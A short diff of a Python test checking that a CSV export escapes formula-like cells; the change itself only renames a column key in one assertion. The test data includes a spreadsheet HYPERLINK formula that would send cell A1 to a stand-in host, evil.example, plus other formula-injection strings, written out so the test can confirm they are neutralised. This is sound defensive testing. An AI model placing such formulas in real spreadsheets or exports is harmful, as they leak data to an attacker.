@@ -113,7 +113,7 @@ def test_csv_prefixes_formula_like_texts_and_never_numbers(url: str, tmp_path: P
     detail = list(csv.DictReader(io.StringIO((tmp_path / "cup-detail.csv").read_bytes().decode("utf-8-sig"),
                                              newline="")))
     assert {r["Entry"] for r in detail} == {"'=1+1", "'+1", "'-2"}
-    assert detail[0]["Judge's total"] == "87.00"
+    assert detail[0]["Judge's total on the final scale"] == "87.00"
     teams = (tmp_path / "cup-teams.csv").read_text(encoding="utf-8-sig").splitlines()
     assert teams[1:] == ['1,"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")",88.83,2,1', "2,'@SUM(A1),80.00,2,1"]
 
